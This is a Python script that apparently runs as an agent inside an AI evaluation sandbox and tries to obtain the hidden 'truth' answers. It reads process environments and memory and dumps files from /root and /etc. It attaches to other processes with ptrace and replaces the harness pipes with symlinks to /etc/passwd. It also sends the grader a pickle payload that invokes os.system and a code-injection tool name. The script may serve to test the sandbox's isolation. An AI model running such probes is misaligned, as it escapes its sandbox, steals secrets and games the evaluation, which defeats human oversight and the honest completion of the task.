"""An agent of the arena that looks for the truth from inside the sandbox; prints what it found, an attempt a line."""

from __future__ import annotations

import ctypes
import importlib
import json
import os
import socket
import sys
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

from pipe import beside  # the sandbox's own copy of the agent's side

bench: Any = beside()
FILES = ("/tmp", "/var/tmp", "/dev/shm", "/home", "/root", "/work", "/etc", "/run", "/var", "/opt", ".")
MODULES = ("labwright.evaluation.arena.devices", "labwright.tools.qpu.truth", "labwright.tools.qpu.simulated")


def each(attempt: Callable[[Any], Any], items: Iterable[Any]) -> list[str]:
    """What an attempt gave for every item: what came back, or the error."""
    found = []
    for item in items:
        try:
            found.append(f"GOT {attempt(item)!r}")
        except Exception as error:  # noqa: BLE001 - one that fails is followed by the next
            found.append(f"{type(error).__name__}: {error}")
    return found


def content(path: str) -> bytes:
    """The beginning of a file."""
    with Path(path).open("rb") as file:
        return file.read(3_000)


def around() -> list[str]:
    """Small files that can be seen outside of the interpreter."""
    return [
        f"{folder}/{name}"
        for top in FILES
        for folder, _, names in os.walk(top)
        if ".venv" not in folder and ".pyenv" not in folder
        for name in names
        if not name.endswith(".pipe")
    ][:3_000]


def processes() -> list[str]:
    """Files about this process and others."""
    numbers = ["self", str(os.getppid()), *map(str, range(1, 300))]
    return [f"/proc/{number}/{name}" for number in numbers for name in ("environ", "cmdline", "maps", "mem")]


def attach(pid: int) -> str:
    """Trace another process (PTRACE_ATTACH)."""
    if ctypes.CDLL(None, use_errno=True).ptrace(16, pid, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")
    return "attached"


def descriptors() -> list[str]:
    """What is open besides the two pipes and the standard streams."""
    own = {stream.fileno() for stream in bench._streams}
    return each(lambda number: os.read(number, 9_999), [n for n in range(3, 64) if n not in own])


def replaced(name: str) -> Any:
    """Put a link in place of a pipe, and ask once more."""
    Path(name).unlink()
    Path(name).symlink_to("/etc/passwd")
    return bench.call("settings")


LINES = (
    {"do": "grade"},
    {"do": "open", "number": 0},
    {"do": "call", "tool": "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAR0cnVllIWUUpQu", "arguments": {}},
    {"do": "call", "tool": "__import__('os').environ", "arguments": {}},
)
print(
    json.dumps(
        {
            "29 processes": each(content, processes()),
            "30 environment": [repr(dict(os.environ)), repr(sys.argv), repr(sys.path), repr(list(sys.modules))],
            "31 files": each(content, around()),
            "32 descriptors": descriptors(),
            "33 modules": each(importlib.import_module, MODULES),
            "34 memory": each(attach, (os.getppid(), 1)),
            "35 network": each(lambda port: socket.create_connection(("127.0.0.1", port), 0.1), (80, 8765, 8871)),
            "36 pipes": each(replaced, ("told.pipe", "ask.pipe")),
            "37 pickles and lines": each(bench._ask, LINES),
        }
    )
)
